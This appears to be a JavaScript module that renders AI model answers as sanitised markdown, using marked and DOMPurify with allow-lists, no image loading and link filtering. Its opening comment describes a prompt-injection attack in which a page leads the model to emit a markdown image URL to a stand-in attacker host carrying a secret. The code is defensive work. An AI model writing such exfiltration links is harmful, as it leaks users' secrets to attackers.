// Model answers as markdown: parsed by marked, sanitised by DOMPurify. Raw HTML in an answer is shown
// as text, and images are never loaded: a page could trick the model into writing
// ![](https://evil.example/?q=<secret>) and the load alone would leak the secret.
import { Marked } from '../vendor/marked.js';
import DOMPurify from '../vendor/purify.js';

/** Minimal HTML escaping for raw HTML the model wrote; DOMPurify is the real barrier below. @param {string} s */
const escape = (s) => s.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);

const marked = new Marked({
  gfm: true,
  breaks: true,
  renderer: {
    html({ text }) { return escape(text); },
    image({ text }) { return escape(text); },
  },
});

const ALLOWED_TAGS = ['a', 'p', 'br', 'hr', 'strong', 'em', 'del', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li',
  'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'input'];
const ALLOWED_ATTR = ['href', 'title', 'type', 'checked', 'disabled', 'start', 'align'];

DOMPurify.addHook('afterSanitizeAttributes', (node) => {
  if (node.tagName === 'A') {
    const href = node.getAttribute('href') ?? '';
    // Only web and mail links survive; anything else (javascript:, data:, extension URLs) is dropped.
    if (!/^(https?:|mailto:)/i.test(href)) node.removeAttribute('href');
    else { node.setAttribute('target', '_blank'); node.setAttribute('rel', 'noopener noreferrer'); }
  }
  // GFM task lists render checkboxes; they must not be a form control the user can toggle.
  if (node.tagName === 'INPUT' && node.getAttribute('type') !== 'checkbox') node.remove();
  else if (node.tagName === 'INPUT') node.setAttribute('disabled', '');
});

/** @param {string} text markdown @returns {DocumentFragment} sanitised nodes, never parsed as HTML again */
export function markdownToFragment(text) {
  const html = /** @type {string} */ (marked.parse(text, { async: false }));
  return /** @type {DocumentFragment} */ (/** @type {unknown} */ (DOMPurify.sanitize(html.trim(), {
    ALLOWED_TAGS, ALLOWED_ATTR: [...ALLOWED_ATTR, 'target', 'rel'], ALLOW_DATA_ATTR: false, RETURN_DOM_FRAGMENT: true,
  })));
}

/** Render markdown into el, replacing its content. @param {HTMLElement} el @param {string} text */
export function renderMarkdown(el, text) {
  el.replaceChildren(markdownToFragment(text));
}
